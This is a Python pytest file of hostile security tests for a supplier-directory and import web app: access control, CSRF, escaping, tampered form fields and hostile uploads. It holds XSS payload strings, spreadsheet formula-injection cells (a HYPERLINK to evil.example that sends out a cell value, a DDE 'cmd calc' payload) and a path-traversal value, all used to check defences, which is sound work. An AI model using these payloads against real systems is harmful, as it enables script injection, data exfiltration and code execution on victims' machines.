"""Hostile tests of the supporting-industries programme (issue 12): the public supplier directory, the
enterprise's register entry, the Department's register, import, dashboard and the selection letter.

H01/H02 (another enterprise's objects answer 404), H06 (fields a form does not offer), H07 (roles),
H18–H21 (hostile files and formula cells), H22 (markup escaped), H26 (search input literal), H32 (CSRF),
H17 (absurd numbers refused by the server)."""

from __future__ import annotations

import csv
import hashlib
import io
import re
import zipfile
from datetime import timedelta

import pytest
from markupsafe import escape
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select

from recognition.accounts.models import AdministrativeUnit, Enterprise, Role
from recognition.clock import local_today
from recognition.extensions import db
from recognition.supporting import imports
from recognition.supporting.models import (
    FirmCertification,
    ProgrammeYearFigures,
    Selection,
    SupplierProfile,
    SupportingSector,
)
from recognition.supporting.register import CertificationEntry, ProfileEntry, save_profile
from tests import files
from tests.conftest import csrf_token_from, tax_code
from tests.security import PDF_BYTES, changed_tables, client_for, fingerprint, write_stored
from tests.security.test_csrf_and_safe_methods import login_with_token

PROFILE = "/applicant/supplier-profile/"
IMPORTS = "/secretariat/supporting/imports/"
FIGURES = "/secretariat/supporting/dashboard/figures"
BASE = 700_000  # tax_code(n) numbers of this file's imports, clear of the factories' counter
HEADERS = ["Mã số thuế", "Tên doanh nghiệp", "Địa chỉ", "Đơn vị hành chính", "Lĩnh vực CNHT", "Sản phẩm"]

NAME = '"><svg onload=alert(1)>'
PRODUCT = "<script>alert(2)</script>"
STANDARD = "<img src=x onerror=alert(3)>"
NUMBER = "'><iframe src=javascript:alert(4)>"
BODY = "<b onmouseover=alert(5)>TÜV</b>"
RAW = ("<svg onload", "<script>alert", "<img src=x", "<iframe", "<b onmouseover")


def sector(code: str = "LKKL") -> SupportingSector:
    return db.session.scalar(select(SupportingSector).where(SupportingSector.code == code))


def entry(**fields) -> ProfileEntry:
    return ProfileEntry(**{"supporting_sector_id": sector().id, **fields})


def form_data(**fields) -> dict:
    """What the enterprise's form posts for a listed supplier with one certification."""
    data = {
        "supporting_sector_id": str(sector().id),
        "products": "Bánh răng côn",
        "tier": "",
        "listing_consent": "y",
        "certifications-0-certification_id": "",
        "certifications-0-standard": "iso_9001",
        "certifications-0-number": "VN-OWN-1",
        "certifications-0-expires_on": (local_today() + timedelta(days=400)).isoformat(),
    }
    data.update(fields)
    return {key: value for key, value in data.items() if value is not None}


def profile_of(enterprise_id: int) -> SupplierProfile | None:
    db.session.expire_all()
    return db.session.scalar(select(SupplierProfile).where(SupplierProfile.enterprise_id == enterprise_id))


def found(page: str) -> int:
    match = re.search(r'id="directory-count">[^<]*?(\d+)', page)
    assert match, "no count on the directory page"
    return int(match[1])


def unit_code() -> str:
    """A unit the import accepts today."""
    today = local_today()
    stmt = (
        select(AdministrativeUnit.code)
        .where(AdministrativeUnit.parent_id.is_not(None), AdministrativeUnit.valid_from <= today)
        .where(AdministrativeUnit.valid_to.is_(None) | (AdministrativeUnit.valid_to >= today))
        .order_by(AdministrativeUnit.code)
    )
    return db.session.scalars(stmt).first()


def xlsx(rows: list[list], headers: list[str] = HEADERS, as_text: bool = True) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(headers)
    for row in rows:
        sheet.append(row)
    if as_text:  # cells typed as text (a leading "=" is not a formula in the file we upload)
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    cell.data_type = "s"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def csv_bytes(
    rows: list[list], headers: list[str] = HEADERS, delimiter: str = ";", bom: bool = True
) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter).writerows([headers, *rows])
    return (("\ufeff" if bom else "") + buffer.getvalue()).encode("utf-8")


def upload(client, data: bytes, filename: str):
    return client.post(
        IMPORTS, data={"file": (io.BytesIO(data), filename)}, content_type="multipart/form-data"
    )


def digest_of(response) -> str:
    assert response.status_code == 302, response.text[:2000]
    match = re.search(r"digest=([0-9a-f]{64})", response.headers["Location"])
    assert match, response.headers["Location"]
    return match[1]


def refused_on_the_form(response, message: str | None = None) -> None:
    """The upload page again (not a 500, not a redirect), the file field marked, saying why."""
    assert response.status_code == 200, response.status_code
    assert 'name="file"' in response.text and "invalid-feedback" in response.text
    if message is not None:
        assert message in response.text


@pytest.fixture
def secretariat(app, make, reference):
    client = client_for(app, make.user(Role.secretariat), lang="en")
    make.programme("CNHT")
    db.session.commit()
    return client


@pytest.fixture
def applicant(app, make, reference):
    user = make.user(Role.applicant)
    client = client_for(app, user, lang="en")
    client.enterprise_id = user.memberships[0].enterprise_id
    return client


# The public directory ---------------------------------------------------------------------------------


@pytest.fixture
def firms(app, make, reference):
    """A listed firm with customers; one that never consented; one the Department marked inactive."""
    actor = make.user(Role.secretariat)
    made = {}
    for key, consent, active in (
        ("listed", True, True),
        ("unconsented", False, True),
        ("inactive", True, False),
    ):
        enterprise = make.enterprise(name=f"Công ty Cơ khí {key.capitalize()}")
        certification = CertificationEntry(standard="iatf_16949", number=f"IATF-{key}")
        save_profile(
            enterprise,
            entry(
                products=f"Trục khuỷu {key}zz",
                customers=f"Khách hàng bí mật {key}qq",
                supplies_multinationals=True,
                tier="tier1",
                listing_consent=consent,
                active=active,
                certifications=[certification],
            ),
            actor,
        )
        made[key] = enterprise
    db.session.commit()
    return made


def test_the_directory_shows_only_listed_active_firms_and_never_customers(client, firms):
    listed, unconsented, inactive = firms["listed"], firms["unconsented"], firms["inactive"]
    pages = [
        client.get(url) for url in ("/suppliers/", "/suppliers/?q=iatf", "/suppliers/?standard=iatf_16949")
    ]
    pages.append(client.get(f"/suppliers/?sector={sector().id}"))
    for page in pages:
        assert page.status_code == 200
        assert found(page.text) == 1
        assert listed.name in page.text
        for hidden in (unconsented, inactive):
            assert hidden.name not in page.text and hidden.tax_code not in page.text
        assert "qq" not in page.text  # no customers, not even the listed firm's
    for word in ("unconsentedzz", "inactivezz", "IATF-unconsented"):
        assert found(client.get(f"/suppliers/?q={word}").text) == 0
    # Customers are not searchable either: that would tell who supplies whom.
    for customer in ("listedqq", "bi mat"):
        assert found(client.get(f"/suppliers/?q={customer}").text) == 0

    page = client.get(f"/suppliers/{listed.id}")
    assert page.status_code == 200 and "Trục khuỷu listedzz" in page.text
    assert "qq" not in page.text
    for hidden in (unconsented, inactive):
        response = client.get(f"/suppliers/{hidden.id}")
        assert response.status_code == 404
        assert hidden.name not in response.text
    no_profile = firms["listed"].id + 1000
    assert client.get(f"/suppliers/{no_profile}").status_code == 404


def test_a_firm_that_withdraws_its_consent_disappears_at_once(app, make, reference, client):
    user = make.user(Role.applicant)
    applicant = client_for(app, user, lang="en")
    enterprise = user.memberships[0].enterprise
    assert applicant.post(PROFILE, data=form_data(products="Vòng bi withdrawnzz")).status_code == 302
    assert client.get(f"/suppliers/{enterprise.id}").status_code == 200
    assert found(client.get("/suppliers/?q=withdrawnzz").text) == 1

    assert (
        applicant.post(
            PROFILE, data=form_data(products="Vòng bi withdrawnzz", listing_consent=None)
        ).status_code
        == 302
    )
    assert profile_of(enterprise.id).listing_consent is False
    assert client.get(f"/suppliers/{enterprise.id}").status_code == 404
    for query in ("withdrawnzz", "vong bi", "VN-OWN-1", enterprise.tax_code):
        page = client.get("/suppliers/", query_string={"q": query}).text
        assert found(page) == 0 and enterprise.name not in page


def test_an_applicant_cannot_reactivate_its_firm_by_posting_active(app, make, reference, client):
    """The enterprise's form has no `active` field: the Department's decision holds (H06)."""
    user = make.user(Role.applicant)
    applicant = client_for(app, user, lang="en")
    enterprise = user.memberships[0].enterprise
    save_profile(enterprise, entry(listing_consent=True, active=False), make.user(Role.secretariat))
    db.session.commit()
    hostile = form_data(
        active="y", enterprise_id=str(enterprise.id + 1), search_folded="x", updated_by_id="1"
    )
    assert applicant.post(PROFILE, data=hostile).status_code == 302
    profile = profile_of(enterprise.id)
    assert profile.active is False and profile.enterprise_id == enterprise.id
    assert client.get(f"/suppliers/{enterprise.id}").status_code == 404


@pytest.mark.parametrize(
    ("query", "expected"),
    [("%", "percent"), ("_", "underscore"), ("\\", "backslash"), ("5%", "percent"), ("a_b", "underscore")],
)
def test_search_wildcards_are_literal_in_the_directory_and_the_register(
    client, make, secretariat, query, expected
):
    actor = make.user(Role.secretariat)
    names = {
        "percent": "Nhựa 5% Việt",  # fewer than 3 digits: not read as a tax code
        "underscore": "Cơ khí a_b",
        "backslash": "Điện tử C\\D",
        "plain": "Khuôn AxB",
    }
    for name in names.values():
        save_profile(make.enterprise(name=name), entry(listing_consent=True), actor)
    db.session.commit()
    page = client.get("/suppliers/", query_string={"q": query}).text
    assert found(page) == 1, query
    assert names[expected] in page
    register = secretariat.get("/secretariat/supporting/", query_string={"q": query}).text
    shown = [name for name in names.values() if name in register]
    assert shown == [names[expected]], (query, shown)


@pytest.mark.parametrize(
    "args",
    [
        {"q": "x" * 5000}, {"q": " ".join(["ab"] * 300)}, {"page": "-1"}, {"page": "99999999999999999999"},
        {"sector": "abc"}, {"sector": "99999999999999999999"}, {"standard": "<script>"},
        {"standard": "other"},
    ],
)  # fmt: skip
def test_odd_directory_arguments_filter_nothing_and_never_fail(client, firms, args):
    response = client.get("/suppliers/", query_string=args)
    assert response.status_code == 200
    assert "<script>" not in response.text.split("<main", 1)[-1]


def test_a_nul_in_the_search_is_refused_not_a_database_error(client, firms):
    assert client.get("/suppliers/?q=a%00b").status_code == 400
    assert client.get("/suppliers/99999999999999999999").status_code == 404


# Markup typed into a firm's fields ----------------------------------------------------------------------


def test_markup_in_a_firms_fields_is_escaped_on_every_page(app, make, reference, client, secretariat):
    enterprise = make.enterprise(name=NAME)
    user = make.user(Role.applicant, enterprise=enterprise)
    certification = CertificationEntry(
        standard="other", standard_name=STANDARD, number=NUMBER, body=BODY,
        expires_on=local_today() + timedelta(days=30),  # expiring: the dashboard lists it
    )  # fmt: skip
    save_profile(
        enterprise,
        entry(
            products=f"{PRODUCT}\nBu lông",
            customers=PRODUCT,
            listing_consent=True,
            certifications=[certification],
        ),
        user,
    )
    db.session.commit()
    owner = client_for(app, user, lang="en")
    pages = [
        (client, "/suppliers/", (NAME, PRODUCT, STANDARD)),
        (client, "/suppliers/?q=alert", (NAME, PRODUCT, STANDARD)),
        (client, f"/suppliers/{enterprise.id}", (NAME, PRODUCT, STANDARD)),
        (secretariat, "/secretariat/supporting/", (NAME, PRODUCT, STANDARD)),
        (
            secretariat,
            f"/secretariat/supporting/firms/{enterprise.id}",
            (NAME, PRODUCT, STANDARD, NUMBER, BODY),
        ),
        (secretariat, "/secretariat/supporting/dashboard/", (NAME, STANDARD, NUMBER)),
        (owner, PROFILE, (NAME, PRODUCT, STANDARD, NUMBER, BODY)),
    ]
    problems = []
    for who, url, shown in pages:
        response = who.get(url)
        if response.status_code != 200:
            problems.append(f"{url}: {response.status_code}")
            continue
        html = response.text
        problems.extend(f"{url}: raw {raw!r}" for raw in RAW if raw in html)
        for text in shown:
            if str(escape(text)) not in html:
                problems.append(f"{url}: {text!r} not shown escaped")
    assert problems == [], "\n".join(problems)


def test_markup_in_an_imported_file_is_escaped_on_the_preview(secretariat):
    rows = [
        [tax_code(BASE), NAME, "Số 1 phố Huế", unit_code(), "LKKL", PRODUCT],
        [
            tax_code(BASE + 1),
            PRODUCT,
            "Số 2",
            STANDARD,
            "<i>LKKL</i>",
            "",
        ],  # rejected: echoes unit and sector
    ]
    digest = digest_of(upload(secretariat, csv_bytes(rows), "list.csv"))
    html = secretariat.get(IMPORTS + "preview", query_string={"digest": digest}).text
    assert [raw for raw in (*RAW, "<i>LKKL") if raw in html] == []
    assert "&#34;&gt;&lt;svg onload=alert(1)&gt;" in html
    assert "&lt;img src=x onerror=alert(3)&gt;" in html


# The import's files ---------------------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(A1:A9)",
    "=1+1",
]


def formula_rows() -> list[list]:
    """Rows rejected (a bad tax code), each carrying formula-like text in every column."""
    return [[formula, formula, formula, formula, formula, formula] for formula in FORMULAS]


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_formula_cells_come_back_as_text_in_the_rejects(secretariat, kind):
    headers = [*HEADERS, '=HYPERLINK("http://evil.example")']
    rows = [[*row, "@x"] for row in formula_rows()]
    data = xlsx(rows, headers) if kind == "xlsx" else csv_bytes(rows, headers)
    digest = digest_of(upload(secretariat, data, f"list.{kind}"))

    workbook_download = secretariat.get(IMPORTS + "rejects.xlsx", query_string={"digest": digest})
    assert workbook_download.status_code == 200
    assert workbook_download.headers["Content-Disposition"].startswith("attachment")
    with zipfile.ZipFile(io.BytesIO(workbook_download.data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = load_workbook(io.BytesIO(workbook_download.data)).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    formula_cells = [cell for cell in cells if imports.is_formula_like(str(cell.value))]
    assert (
        len(formula_cells) == len(FORMULAS) * 6 + len(FORMULAS) + 1
    )  # the cells, the extra column, its header
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in formula_cells)

    text_download = secretariat.get(IMPORTS + "rejects.csv", query_string={"digest": digest})
    assert text_download.status_code == 200
    records = list(csv.reader(io.StringIO(text_download.data.decode("utf-8-sig"))))
    assert len(records) == 1 + len(FORMULAS)
    for record in records:
        assert not any(imports.is_formula_like(cell) for cell in record), record
    assert records[1][0] == "'" + FORMULAS[0]


def test_a_csv_with_a_byte_order_mark_and_semicolons_is_read(secretariat):
    rows = [[tax_code(BASE + 2), "Công ty Đúc Hà Nội", "Số 3", unit_code(), "LKKL", "Vỏ hộp số; Bánh đà"]]
    digest = digest_of(upload(secretariat, csv_bytes(rows, delimiter=";", bom=True), "danh-sach.csv"))
    html = secretariat.get(IMPORTS + "preview", query_string={"digest": digest}).text
    assert "Công ty Đúc Hà Nội" in html and "Mã số thuế" not in html.split('id="import-good"', 1)[-1]


def _zip(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return buffer.getvalue()


UNREADABLE = "could not be read as an XLSX workbook or a CSV file in UTF-8"


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("random.xlsx", bytes(range(256)) * 8, UNREADABLE),
        ("not-a-workbook.xlsx", _zip({"hello.txt": b"hello"}), None),
        ("a-letter.xlsx", files.office("word"), UNREADABLE),
        ("truncated.xlsx", xlsx([["0100109106", "A", "B", "C", "D", "E"]])[:600], None),
        ("a-pdf.xlsx", PDF_BYTES, "Required columns are missing"),  # read as text
        ("windows-1258.csv", b"M\xe3 s\xf4\xec thu\xea\xec;T\xean doanh nghi\xea\xf2p\n", UNREADABLE),
        ("utf16.csv", "Mã số thuế;Tên\n".encode("utf-16"), UNREADABLE),
        ("nul.csv", b"Ma so thue;Ten\x00\n", UNREADABLE),
        ("giant-field.csv", b'Ma so thue;"' + b"x" * 200_000 + b'"\n', UNREADABLE),
        ("no-columns.csv", b"a;b;c\n1;2;3\n", "Required columns are missing"),
        ("empty.csv", b"", None),
        ("only-blank-lines.csv", b"\n\n\n", None),
    ],
)
def test_an_unreadable_file_gets_a_clear_message_not_an_error(secretariat, name, content, message):
    before = fingerprint()
    refused_on_the_form(upload(secretariat, content, name), message)
    assert changed_tables(before, fingerprint()) == []


def test_a_sheet_over_the_row_limit_is_refused(secretariat, monkeypatch):
    monkeypatch.setattr(imports, "MAX_ROWS", 50)  # the same rule as at 5,000 rows, at a test's size
    rows = [[tax_code(BASE + 10 + i), f"Công ty {i}", "Số 1", unit_code(), "LKKL", ""] for i in range(51)]
    refused_on_the_form(upload(secretariat, xlsx(rows), "long.xlsx"), "more than 50 rows")
    refused_on_the_form(upload(secretariat, csv_bytes(rows), "long.csv"), "more than 50 rows")


def test_a_zip_bomb_named_xlsx_is_refused_before_it_is_inflated(secretariat):
    bomb = _zip({"[Content_Types].xml": b"<Types/>", "xl/worksheets/sheet1.xml": b" " * (20 * 1024 * 1024)})
    assert len(bomb) < 100_000
    refused_on_the_form(upload(secretariat, bomb, "bomb.xlsx"))


def test_one_far_cell_does_not_make_a_tiny_workbook_cost_millions_of_cells(secretariat, monkeypatch):
    """A 5 KB workbook whose only far cell sits at XFD1048576 (Excel's last cell): the import must not
    do work in proportion to the sheet's declared size. Counted, so the test stays fast either way."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(HEADERS)
    sheet.append([tax_code(BASE + 3), "Công ty Xa", "Số 4", unit_code(), "LKKL", ""])
    sheet.cell(row=1_048_576, column=16_384, value="x")
    buffer = io.BytesIO()
    workbook.save(buffer)
    assert len(buffer.getvalue()) < 10_000

    budget = {"cells": 0}
    text = imports._text

    def counted(value):
        budget["cells"] += 1
        if budget["cells"] > 200_000:
            raise OverflowError("the import converted more than 200,000 cells of a 5 KB file")
        return text(value)

    monkeypatch.setattr(imports, "_text", counted)
    try:
        response = upload(secretariat, buffer.getvalue(), "far.xlsx")
    except OverflowError as error:
        pytest.fail(str(error))
    assert response.status_code in (200, 302)


@pytest.mark.parametrize(
    "digest",
    [
        "", "abc", "../../../../etc/passwd", "0" * 63, "0" * 65, "g" * 64, "0" * 64, "%2e%2e%2f" * 8,
        "A" * 64, "0" * 64 + "/../x", "x" * 10_000,
    ],
)  # fmt: skip
def test_a_digest_that_names_no_stored_list_is_refused_quietly(secretariat, digest):
    before = fingerprint()
    for path in ("preview", "rejects.xlsx", "rejects.csv"):
        response = secretariat.get(IMPORTS + path, query_string={"digest": digest})
        assert response.status_code == 302, (path, response.status_code)
        assert response.headers["Location"].endswith(IMPORTS)
    response = secretariat.post(IMPORTS + "confirm", data={"digest": digest})
    assert response.status_code == 302
    assert changed_tables(before, fingerprint()) == []


def test_a_digest_of_an_applicants_evidence_leaks_nothing(app, secretariat):
    """The store holds the dossiers' evidence under the same kind of name: a PDF's digest is refused
    as unreadable; its bytes never reach the page or a download."""
    pdf = PDF_BYTES + b"% secret financial statement\n"
    digest = hashlib.sha256(pdf).hexdigest()
    write_stored(app, digest, pdf)
    before = fingerprint()
    for path in ("preview", "rejects.xlsx", "rejects.csv"):
        response = secretariat.get(IMPORTS + path, query_string={"digest": digest}, follow_redirects=True)
        assert response.status_code == 200
        assert b"%PDF" not in response.data and b"secret financial" not in response.data
        assert UNREADABLE in response.text
    response = secretariat.post(IMPORTS + "confirm", data={"digest": digest}, follow_redirects=True)
    assert response.status_code == 200 and b"secret financial" not in response.data
    assert changed_tables(before, fingerprint()) == []


def test_confirming_twice_or_a_tampered_digest_writes_nothing_more(secretariat):
    rows = [[tax_code(BASE + 4), "Công ty Một", "Số 5", unit_code(), "LKKL", "Ốc vít"]]
    digest = digest_of(upload(secretariat, csv_bytes(rows), "one.csv"))
    assert secretariat.post(IMPORTS + "confirm", data={"digest": digest}).status_code == 200
    before = fingerprint()
    assert secretariat.post(IMPORTS + "confirm", data={"digest": digest}).status_code == 200
    assert secretariat.post(IMPORTS + "confirm", data={"digest": digest.upper()}).status_code == 302
    assert changed_tables(before, fingerprint()) == []
    assert (
        db.session.scalar(
            select(func.count()).select_from(Enterprise).where(Enterprise.tax_code == rows[0][0])
        )
        == 1
    )


# The enterprise's own entry: another firm's rows, hidden fields ------------------------------------------


def test_another_firms_certification_ids_change_nothing_of_theirs(make, applicant):
    other = make.enterprise(name="Công ty Đối thủ")
    theirs = save_profile(
        other,
        entry(certifications=[CertificationEntry(standard="iso_9001", number="THEIRS-1", body="BV")]),
        make.user(Role.secretariat),
    ).certifications[0]
    db.session.commit()
    their_id = theirs.id
    for attack in (
        {"certifications-0-certification_id": str(their_id)},
        {"certifications-0-certification_id": str(their_id), "certifications-0-remove": "y"},
        {"certifications-0-certification_id": str(their_id), "certifications-0-number": "THEIRS-1"},
        {
            "certifications-1-certification_id": str(their_id),
            "certifications-1-standard": "",
            "certifications-1-remove": "y",
        },
    ):
        assert applicant.post(PROFILE, data=form_data(**attack)).status_code == 302, attack
        db.session.expire_all()
        row = db.session.get(FirmCertification, their_id)
        assert row is not None, attack
        assert (row.profile.enterprise_id, row.number, row.body) == (other.id, "THEIRS-1", "BV")
    assert profile_of(other.id).products == ""
    own = profile_of(applicant.enterprise_id)
    assert their_id not in [c.id for c in own.certifications]


@pytest.mark.parametrize("certification_id", ["99999999999999999999", "-1", "abc", "1e3", "０"])
def test_a_tampered_hidden_row_id_is_refused_and_saves_nothing(applicant, certification_id):
    """Only a crafted post changes the hidden id: the form comes back (no message: no field shows it)."""
    before = fingerprint()
    response = applicant.post(
        PROFILE, data=form_data(**{"certifications-0-certification_id": certification_id})
    )
    assert response.status_code == 200
    assert 'id="supplier-profile-form"' in response.text and "Bánh răng côn" in response.text
    assert changed_tables(before, fingerprint()) == []


@pytest.mark.parametrize(
    "bad",
    [
        {"supporting_sector_id": "99999999"},
        {"supporting_sector_id": "abc"},
        {"tier": "tier9", "supplies_multinationals": "y"},
        {"certifications-0-standard": "iso_27001"},
        {"certifications-0-expires_on": "31/02/2027"},
        {"certifications-0-expires_on": "9999-12-31"},
        {f"certifications-{i}-number": f"N{i}" for i in range(25)}
        | {f"certifications-{i}-standard": "iso_9001" for i in range(25)},
    ],
)
def test_a_crafted_profile_post_is_refused_beside_its_field_and_saves_nothing(applicant, bad):
    before = fingerprint()
    response = applicant.post(PROFILE, data=form_data(**bad))
    assert response.status_code == 200
    assert "invalid-feedback" in response.text or "text-danger" in response.text
    assert changed_tables(before, fingerprint()) == []


# The selection letter ---------------------------------------------------------------------------------


def _selected(make, enterprise: Enterprise, round_) -> int:
    application = make.application(round=round_, enterprise=enterprise)
    db.session.add(
        Selection(
            serial=f"CNHT-{round_.year}-{application.id:04d}", sequence=application.id,
            application_id=application.id, round_id=round_.id, enterprise_id=enterprise.id,
            decision_number="12/QĐ-SCT", decision_date=local_today(), decision_signer="Nguyễn Văn A",
            issued_on=local_today(), support_areas=[], enterprise_name=enterprise.name,
            tax_code=enterprise.tax_code, product_name=application.product.name,
        )
    )  # fmt: skip
    db.session.commit()
    return application.id


def test_the_selection_letter_of_another_enterprise_is_not_found(app, make, reference):
    round_ = make.round(programme=make.programme("CNHT"))
    own_user = make.user(Role.applicant)
    own = _selected(make, own_user.memberships[0].enterprise, round_)
    foreign_enterprise = make.enterprise("P-HADONG")
    foreign = _selected(make, foreign_enterprise, round_)
    applicant = client_for(app, own_user)
    letter = "/applicant/applications/{}/selection-letter.pdf"

    response = applicant.get(letter.format(own))
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    for target in (foreign, 99_999_999):
        response = applicant.get(letter.format(target))
        assert response.status_code == 404
        assert foreign_enterprise.name.encode() not in response.data
    staff = f"/secretariat/dossiers/{foreign}/selection-letter.pdf"
    assert applicant.get(staff).status_code == 403
    officer = client_for(app, make.user(Role.unit_officer, unit=foreign_enterprise.unit))
    assert officer.get(staff).status_code == 403
    assert client_for(app, None).get(letter.format(own)).status_code == 302


# CSRF on the new forms ---------------------------------------------------------------------------------


def test_the_new_forms_refuse_a_post_without_a_token(app, make, reference, csrf_enabled):
    make.programme("CNHT")
    user = make.user(Role.applicant)
    enterprise = user.memberships[0].enterprise
    applicant = login_with_token(app, user)
    secretariat = login_with_token(app, make.user(Role.secretariat))
    data = form_data()
    row = [tax_code(BASE + 5), "Công ty CSRF", "Số 6", unit_code(), "LKKL", ""]
    posts = [
        (applicant, PROFILE, data),
        (secretariat, f"/secretariat/supporting/firms/{enterprise.id}", {**data, "active": "y"}),
        (secretariat, IMPORTS, {"file": (io.BytesIO(csv_bytes([row])), "l.csv")}),
        (secretariat, IMPORTS + "confirm", {"digest": "0" * 64}),
        (secretariat, FIGURES, {"year": str(local_today().year - 1), "output_share_percent": "15,8"}),
    ]
    before = fingerprint()
    for client, url, form in posts:
        for token in (None, "IjAwMDAi.aaaaaa.bbbbbbbbbbbbbbbbbbbbbbbbbbb"):
            sent = dict(form) if token is None else {**form, "csrf_token": token}
            if "file" in sent:
                sent["file"] = (io.BytesIO(csv_bytes([row])), "l.csv")
            response = client.post(url, data=sent, content_type="multipart/form-data")
            assert response.status_code == 400, (url, token, response.status_code)
    assert changed_tables(before, fingerprint()) == []

    # The control: with the page's own token the profile is saved.
    token = csrf_token_from(applicant.get(PROFILE).text)
    assert applicant.post(PROFILE, data={**data, "csrf_token": token}).status_code == 302
    assert profile_of(enterprise.id) is not None


# The yearly figures --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "fields",
    [
        {"output_share_percent": "101"}, {"output_share_percent": "-0,01"}, {"output_share_percent": "1e308"},
        {"output_share_percent": "NaN"}, {"output_share_percent": "Infinity"},
        {"output_share_percent": "0x10"},
        {"output_share_percent": "99999999999999999999999"}, {"output_share_percent": "1.000,5"},
        {"output_share_percent": "١٢"}, {"output_share_percent": "16,5%"},
        {"index_growth_percent": "1000,01"}, {"index_growth_percent": "-100,5"},
        {"index_growth_percent": "9" * 400},
        {"year": "99999999999999999999", "output_share_percent": "10"},
        {"year": "1999", "output_share_percent": "10"}, {"year": "-2020", "output_share_percent": "10"},
        {"year": str(local_today().year + 1), "output_share_percent": "10"},
        {"output_share_percent": "", "index_growth_percent": ""},
    ],
)  # fmt: skip
def test_the_yearly_figures_form_refuses_absurd_numbers(secretariat, fields):
    data = {"year": str(local_today().year - 1), **fields}
    response = secretariat.post(FIGURES, data=data)
    assert response.status_code == 200, response.status_code
    assert "invalid-feedback" in response.text
    assert db.session.scalar(select(func.count()).select_from(ProgrammeYearFigures)) == 0


def test_the_yearly_figures_control_a_sound_figure_is_saved(secretariat):
    data = {
        "year": str(local_today().year - 1),
        "output_share_percent": "15,8",
        "index_growth_percent": "-3.5",
    }
    assert secretariat.post(FIGURES, data=data).status_code == 302
    figures = db.session.scalars(select(ProgrammeYearFigures)).one()
    assert (str(figures.output_share_percent), str(figures.index_growth_percent)) == ("15.80", "-3.50")


# Roles ---------------------------------------------------------------------------------------------------

SECRETARIAT_PAGES = [
    ("GET", "/secretariat/supporting/"), ("GET", "/secretariat/supporting/firms/{id}"),
    ("POST", "/secretariat/supporting/firms/{id}"), ("GET", IMPORTS), ("POST", IMPORTS),
    ("GET", IMPORTS + "preview?digest={digest}"), ("POST", IMPORTS + "confirm"),
    ("GET", IMPORTS + "rejects.xlsx?digest={digest}"), ("GET", IMPORTS + "rejects.csv?digest={digest}"),
    ("GET", IMPORTS + "template.xlsx"), ("GET", IMPORTS + "template.csv"),
    ("GET", "/secretariat/supporting/dashboard/"), ("POST", FIGURES),
]  # fmt: skip


@pytest.mark.parametrize("role", [Role.unit_officer, Role.council_member, Role.applicant])
def test_other_roles_get_the_usual_refusal_on_the_secretariats_pages(app, make, secretariat, role):
    enterprise = make.enterprise()
    save_profile(enterprise, entry(customers="Khách hàng nội bộ"), make.user(Role.secretariat))
    db.session.commit()
    row = [tax_code(BASE + 6), "Công ty Vai trò", "Số 7", unit_code(), "LKKL", ""]
    digest = digest_of(upload(secretariat, csv_bytes([row]), "l.csv"))
    intruder = client_for(app, make.user(role), lang="en")
    before = fingerprint()
    for method, url in SECRETARIAT_PAGES:
        target = url.format(id=enterprise.id, digest=digest)
        data = {"digest": digest, "year": "2024", "output_share_percent": "10", "supporting_sector_id": "1"}
        response = intruder.open(target, method=method, data=data)
        assert response.status_code == 403, (role, method, target, response.status_code)
        assert "Khách hàng nội bộ" not in response.text and "Công ty Vai trò" not in response.text
    assert changed_tables(before, fingerprint()) == []
    if role != Role.applicant:
        assert intruder.get(PROFILE).status_code == 403
    anonymous = client_for(app, None)
    assert anonymous.get(IMPORTS).status_code == 302
    assert anonymous.get(PROFILE).status_code == 302
